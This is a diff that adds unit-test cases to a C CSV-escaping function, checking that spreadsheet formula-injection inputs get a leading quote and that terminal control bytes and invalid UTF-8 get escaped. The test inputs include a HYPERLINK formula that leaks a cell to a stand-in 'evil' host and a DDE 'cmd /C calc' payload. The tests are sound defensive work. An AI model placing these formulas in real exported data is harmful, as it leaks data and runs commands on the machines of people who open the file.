@@ -85,6 +85,22 @@ static void test_csv_field(void **state)
     csv_is("say \"hi\"", "\"say \"\"hi\"\"\"");
     csv_is("", "");
     csv_is(NULL, "");
+    /* Formula injection: neutralised with a leading quote inside the field. */
+    csv_is("=HYPERLINK(\"http://evil/?leak=\"&A1,\"x\")",
+           "\"'=HYPERLINK(\"\"http://evil/?leak=\"\"&A1,\"\"x\"\")\"");
+    csv_is("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"");
+    csv_is("@SUM(1)", "\"'@SUM(1)\"");
+    csv_is("-2+3", "\"'-2+3\"");
+    csv_is("\tx", "\"'\tx\"");
+    csv_is("\rx", "\"'\rx\"");
+    csv_is("a=b", "a=b");
+    /* Control bytes escaped; C1 controls too; invalid UTF-8 made visible. */
+    csv_is("red\x1b[31m\x07", "red\\x1b[31m\\x07");
+    csv_is("csi\xc2\x9b"
+           "2J caf\xc3\xa9",
+           "csi\\u009b2J caf\xc3\xa9");
+    csv_is("\x1b=1", "\\x1b=1");
+    csv_is("bad\xff", "bad\\xff");
 }
 
 static void html_is(const char *in, const char *want)
